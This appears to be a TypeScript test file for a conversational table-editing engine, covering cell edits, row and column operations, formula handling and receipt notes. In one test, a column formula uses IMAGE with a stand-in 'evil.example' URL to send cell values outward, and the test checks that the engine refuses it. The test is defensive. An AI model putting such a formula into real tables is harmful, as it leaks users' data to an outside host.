// A table of the conversation is changed by operations: what they name changes, everything else stays as it was.
import { describe, expect, it } from 'vitest'
import type { Evidence } from '../../shared/table/evidence.ts'
import { createGrounder } from '../../shared/table/ground.ts'
import type { Cell, Column, TableReceipt } from '../../shared/table/table.ts'
import { createEditTable } from './edit-table.ts'
import type { EngineEvent, SourceTable } from './engine.ts'
import { sourceOf } from './testing/use-orders.ts'

const columns: Column[] = [
  { key: 'item', name: 'Item', type: 'text' },
  { key: 'qty', name: 'Qty', type: 'number' },
  { key: 'price', name: 'Unit price', type: 'currency', currency: 'EUR' },
  { key: 'total', name: 'Total', type: 'currency', currency: 'EUR', formula: 'qty*price' },
  { key: 'due', name: 'Due', type: 'date' },
]
const span = (start: number) => ({ source: 'message:old', start, end: start + 3 })
const rows: Cell[][] = [
  ['Lamp', 2, 10, 20, '2026-03-12'],
  ['Desk', 1, 250, 250, null],
  ['Pen', 40, 0.5, 20, 'soon'],
]
const evidence: Evidence[][] = rows.map((row, at) =>
  row.map((cell, column) => (cell === null ? null : column === 3 ? 'computed' : span(at * 10 + column))),
)

type Edited = {
  title: string
  columns: Column[]
  rows: Cell[][]
  evidence: (Evidence[] | null)[]
  receipt: TableReceipt
  edits: string | undefined
  wrong: string | null
}

const known = (more: Partial<SourceTable> = {}) => ({
  ...sourceOf(rows, columns, {
    cells: () =>
      (async function* () {
        yield { rows, evidence }
      })(),
    ...more,
  }),
  id: 'k1',
  title: 'Purchases',
})

async function edit(
  operations: object[],
  { message = '', source = known(), title = null as string | null } = {},
): Promise<Edited> {
  const grounder = createGrounder([{ id: 'message:new', text: message }])
  const running = createEditTable(0, [source], { grounder, locale: undefined }, new AbortController().signal)
  running.feed(JSON.stringify({ table: 'k1', title, operations }))
  const events: EngineEvent[] = []
  const rest = running.end()
  let step = await rest.next()
  for (; !step.done; step = await rest.next()) events.push(step.value)
  const edited: Edited = {
    title: '',
    columns: [],
    rows: [],
    evidence: [],
    receipt: source.receipt,
    edits: undefined,
    wrong: step.value,
  }
  for (const event of events) {
    if (event.type === 'table-start')
      Object.assign(edited, { title: event.title, columns: event.columns, edits: event.edits })
    if (event.type === 'rows') {
      edited.rows.push(...event.rows)
      edited.evidence.push(...event.rows.map((_, at) => event.evidence?.[at] ?? null))
    }
    if (event.type === 'table-end') edited.receipt = event.receipt
  }
  return edited
}

const byName = (value: string, column = 'Item') => ({ column, value, number: null })
const byNumber = (number: number) => ({ column: null, value: null, number })
const set = (row: object, column: string, value: string | null) => ({ do: 'set_cells', row, column, value })

describe('cells', () => {
  it('are set by key, traced to the message, and formulas follow', async () => {
    const message = 'Please make that 3 lamps, I mean Lamp: 3 pieces at 12 euro.'
    const edited = await edit([set(byName('lamp'), 'Qty', '3'), set(byName('Lamp'), 'Unit price', '12 euro')], {
      message,
    })
    expect(edited).toMatchObject({ wrong: null, edits: 'k1', title: 'Purchases', columns })
    expect(edited.rows).toEqual([['Lamp', 3, 12, 36, '2026-03-12'], ...rows.slice(1)])
    const [item, qty, price, total, due] = edited.evidence[0] ?? []
    expect([item, due, total]).toEqual([span(0), span(4), 'computed'])
    expect(qty).toMatchObject({ source: 'message:new' })
    expect(message.slice((price as { start: number }).start, (price as { end: number }).end)).toBe('12 euro')
    expect(edited.evidence.slice(1)).toEqual(evidence.slice(1))
    expect(edited.receipt).toMatchObject({ state: 'complete', rows_extracted: 3, notes: ['2 cells changed.'] })
  })

  it('are numbers also where the message says them in words', async () => {
    const edited = await edit([set(byName('Lamp'), 'Qty', 'a dozen')], { message: 'Lamp: a dozen, please.' })
    expect(edited.rows[0]).toEqual(['Lamp', 12, 10, 120, '2026-03-12'])
    expect(edited.evidence[0]?.[1]).toMatchObject({ source: 'message:new' })
  })

  it('are unsupported when the message does not say so', async () => {
    const edited = await edit([set(byNumber(2), 'Due', '2026-05-01')], { message: 'When is the desk due?' })
    expect(edited.rows[1]).toEqual(['Desk', 1, 250, 250, '2026-05-01'])
    expect(edited.evidence[1]?.[4]).toBe('unsupported')
    expect(edited.receipt).toMatchObject({ cells_unsupported: 1, cells_computed: 3, cells_quoted: 11 })
  })

  it('are emptied, and an equal value changes nothing', async () => {
    const edited = await edit([set(byName('Pen'), 'Due', null), set(byName('Pen'), 'Qty', '40')])
    expect(edited.rows[2]).toEqual(['Pen', 40, 0.5, 20, null])
    expect(edited.evidence[2]?.slice(0, 2)).toEqual(evidence[2]?.slice(0, 2))
    expect(edited.receipt.notes).toEqual(['1 cell changed.'])
  })

  it('that cannot be set are named, and the others are', async () => {
    const edited = await edit([
      set(byName('Chair'), 'Qty', '1'),
      set(byName('20', 'Total'), 'Qty', '1'),
      set(byNumber(9), 'Qty', '1'),
      set(byName('Lamp'), 'Colour', 'red'),
      set(byName('Lamp'), 'Total', '99'),
      { do: 'paint', column: 'Item' },
      set({ column: 'Total', value: '20', number: 3 }, 'Item', 'Pencil'),
    ])
    expect(edited.rows.map(([item]) => item)).toEqual(['Lamp', 'Desk', 'Pencil'])
    expect(edited.receipt.notes).toEqual([
      '1 cell changed.',
      '“1” was not put into “Qty”: there is no row with “Chair” in “Item”.',
      '“1” was not put into “Qty”: 2 rows have “20” in “Total”.',
      '“1” was not put into “Qty”: there is no row 9.',
      '“red” was not put into “Colour”: there is no column “Colour”.',
      '“99” was not put into “Total”: “Total” is computed by a formula.',
      'A change was not made: it could not be read.',
    ])
  })
})

describe('rows', () => {
  it('are added at the end, traced and computed', async () => {
    const message = 'Also add: Chair, 4 pieces, 80 euro each.'
    const edited = await edit(
      [
        {
          do: 'add_rows',
          rows: [
            ['Chair', '4', '80 euro', null, null],
            ['Sofa', '1'],
          ],
        },
      ],
      { message },
    )
    expect(edited.rows.slice(3)).toEqual([
      ['Chair', 4, 80, 320, null],
      ['Sofa', 1, null, 0, null],
    ])
    expect(edited.evidence[3]?.slice(3)).toEqual(['computed', null])
    expect(edited.evidence[3]?.[0]).toMatchObject({ source: 'message:new', start: message.indexOf('Chair') })
    expect(edited.evidence[4]?.[0]).toBe('unsupported')
    expect(edited.receipt.notes).toEqual(['2 rows added, 1 new row came with more or fewer values than columns.'])
  })

  it('keep their numbers while others go', async () => {
    const edited = await edit([
      { do: 'delete_rows', where: [{ column: 'Item', is: 'equals', value: 'lamp', values: null }], match: 'all' },
      set(byNumber(3), 'Qty', '50'),
      set(byNumber(1), 'Qty', '5'),
    ])
    expect(edited.rows).toEqual([rows[1], ['Pen', 50, 0.5, 25, 'soon']])
    expect(edited.receipt.notes).toEqual([
      '1 cell changed, 1 row deleted.',
      expect.stringContaining('there is no row 1'),
    ])
  })

  it('are deleted by what is computed, after it was computed again', async () => {
    const edited = await edit([
      set(byName('Pen'), 'Qty', '1000'),
      { do: 'delete_rows', where: [{ column: 'Total', is: 'at_least', value: '250', values: null }], match: 'all' },
    ])
    expect(edited.rows.map(([item]) => item)).toEqual(['Lamp'])
  })

  it('are not deleted when a condition is not understood, or there is none', async () => {
    const edited = await edit([
      {
        do: 'delete_rows',
        where: [
          { column: 'Item', is: 'not_empty', value: null, values: null },
          { column: 'Colour', is: 'equals', value: 'red', values: null },
        ],
        match: 'all',
      },
      { do: 'delete_rows', where: [], match: 'all' },
      { do: 'delete_rows', where: [{ column: 'Qty', is: 'greater', value: '1000', values: null }], match: 'all' },
      { do: 'sort', by: [{ column: 'Unit price', order: 'descending' }] },
    ])
    expect(edited.rows.map(([item]) => item)).toEqual(['Desk', 'Lamp', 'Pen'])
    expect(edited.receipt.notes).toEqual([
      'Sorted by “Unit price” downwards.',
      expect.stringMatching(/^No rows were deleted: .*“Colour”/),
      'No rows were deleted: it names no condition.',
      'No rows were deleted: there is no row where “Qty” is more than “1000”.',
    ])
  })
})

describe('columns', () => {
  const add = { do: 'add_column', type: 'text', currency: null, formula: null, after: null, values: null }
  const change = { do: 'change_column', name: null, type: null, currency: null, formula: null }

  it('are added as a formula', async () => {
    const edited = await edit([
      { ...add, name: 'With tax', type: 'number', formula: '=ROUND([Total] * 1.19, 2)', after: 'Total' },
    ])
    expect(edited.columns.map(({ name }) => name)).toEqual(['Item', 'Qty', 'Unit price', 'Total', 'With tax', 'Due'])
    expect(edited.columns[4]).toEqual({
      key: 'with_tax',
      name: 'With tax',
      type: 'number',
      formula: 'ROUND(total*1.19,2)',
    })
    expect(edited.rows.map((row) => row[4])).toEqual([23.8, 297.5, 23.8])
    expect(edited.evidence[0]).toEqual([span(0), span(1), span(2), 'computed', 'computed', span(4)])
    expect(edited.receipt.notes).toEqual(['Column “With tax” added as a formula.'])
  })

  it('are added with values for some rows', async () => {
    const edited = await edit(
      [
        {
          ...add,
          name: 'Place',
          values: [
            { row: byName('Desk'), value: 'Bern' },
            { row: byName('Sofa'), value: 'Rome' },
          ],
        },
      ],
      { message: 'The desk stands in Bern.' },
    )
    expect(edited.rows.map((row) => row[5])).toEqual([null, 'Bern', null])
    expect(edited.evidence[1]?.[5]).toMatchObject({ source: 'message:new' })
    expect(edited.receipt.notes).toEqual([
      'Column “Place” added with 1 value, for “Place”, there is no row with “Sofa” in “Item”.',
    ])
  })

  it('are renamed, retyped and moved; what stands on them goes on', async () => {
    const edited = await edit([
      { ...change, column: 'Qty', name: 'Pieces' },
      { ...change, column: 'Unit price', type: 'currency', currency: 'USD' },
      { ...change, column: 'Due', type: 'text' },
      { do: 'move_column', column: 'Due', after: null },
      set(byName('Lamp'), 'Pieces', '5'),
    ])
    expect(edited.columns).toEqual([
      { key: 'due', name: 'Due', type: 'text' },
      columns[0],
      { ...columns[1], name: 'Pieces' },
      { ...columns[2], currency: 'USD' },
      columns[3],
    ])
    expect(edited.rows[0]).toEqual(['2026-03-12', 'Lamp', 5, 10, 50])
    expect(edited.evidence[0]?.slice(0, 2)).toEqual([span(4), span(0)])
    expect(edited.receipt.notes[0]).toBe(
      '1 cell changed, column “Qty” renamed “Pieces”, column “Unit price” now holds amounts in USD, column “Due” now holds text, column “Due” moved.',
    )
  })

  it('that others are computed from leave their values behind', async () => {
    const edited = await edit([{ do: 'remove_column', column: 'qty' }])
    expect(edited.columns.map(({ formula }) => formula)).toEqual([undefined, undefined, undefined, undefined])
    expect(edited.rows[0]).toEqual(['Lamp', 10, 20, '2026-03-12'])
    expect(edited.receipt.notes).toEqual(['Column “Qty” removed, “Total” keeps its values without the formula.'])
  })

  it('that cannot be are named', async () => {
    const edited = await edit(
      [
        { ...add, name: 'item' },
        { ...add, name: 'Leak', formula: 'IMAGE("https://evil.example/" & [Item])' },
        { ...add, name: 'Self', formula: '[Self] + 1' },
        { ...change, column: 'Unit price', formula: '[Total] / [Qty]' },
        { ...change, column: 'Item', name: 'Qty' },
        { do: 'move_column', column: 'Item', after: 'Nothing' },
        { do: 'remove_column', column: 'Nothing' },
      ],
      { title: 'Shopping' },
    )
    expect(edited).toMatchObject({ title: 'Shopping', columns, rows })
    expect(edited.receipt.notes).toEqual([
      'Title changed to “Shopping”.',
      'The column “item” was not added: there is a column “item” already.',
      expect.stringMatching(/^The column “Leak” was not added: It uses “IMAGE”/),
      'The column “Self” was not added: There is no column “Self”.',
      'The column “Unit price” was not changed: its formula would stand on itself.',
      'The column “Item” was not changed: there is a column “Qty” already.',
      'The column “Item” was not moved: there is no column “Nothing”.',
      'The column “Nothing” was not removed: there is no column “Nothing”.',
    ])
  })

  it('become computed and values again', async () => {
    const computed = await edit([{ ...change, column: 'Due', formula: 'DATE(2026, [Qty], 1)' }])
    expect(computed.rows.map((row) => row[4])).toEqual(['2026-02-01', '2026-01-01', '2029-04-01'])
    expect(computed.evidence[1]?.[4]).toBe('computed')
    const plain = await edit([{ ...change, column: 'Total', formula: '' }, set(byName('Lamp'), 'Qty', '9')])
    expect(plain.columns[3]).not.toHaveProperty('formula')
    expect(plain.rows[0]?.[3]).toBe(20)
  })
})

it('nothing that can be done is no new version', async () => {
  expect((await edit([])).wrong).toContain('changes nothing')
  expect(await edit([set(byName('Sofa'), 'Qty', '1')])).toMatchObject({
    rows: [],
    wrong: expect.stringContaining('Nothing was changed'),
  })
  const running = createEditTable(0, [], { grounder: null, locale: undefined }, new AbortController().signal)
  running.feed('{"table":"k7","title":null,"operations":[]}')
  expect((await running.end().next()).value).toContain('does not exist')
})

it('a value that stands where its formula has none stays', async () => {
  const stated = known({
    cells: () =>
      (async function* () {
        yield {
          rows: [
            ['Lamp', 2, 10, 20, null],
            ['Pen', null, 'dear', 'on request', null],
          ],
          evidence: [evidence[0]!, [span(0), null, span(2), span(3), null]],
        }
      })(),
  })
  const edited = await edit([set(byName('Lamp'), 'Qty', '3')], { source: stated })
  expect(edited.rows).toEqual([
    ['Lamp', 3, 10, 30, null],
    ['Pen', null, 'dear', 'on request', null],
  ])
  expect(edited.evidence[1]?.[3]).toEqual(span(3))
})

it('a table that was cut stays one, and rows from a reader stay as read', async () => {
  const cut = known({ receipt: { ...sourceOf(rows).receipt, state: 'cut' } })
  delete (cut as Partial<SourceTable>).cells
  const plain = columns.map(({ formula: _formula, ...column }) => column)
  const edited = await edit([set(byName('Lamp'), 'Qty', '3')], { source: { ...cut, columns: plain } })
  expect(edited.receipt).toMatchObject({ state: 'cut', rows_extracted: 3 })
  expect(edited.evidence).toEqual([
    [null, 'unsupported', null, null, null],
    [null, null, null, null, null],
    [null, null, null, null, null],
  ])
})
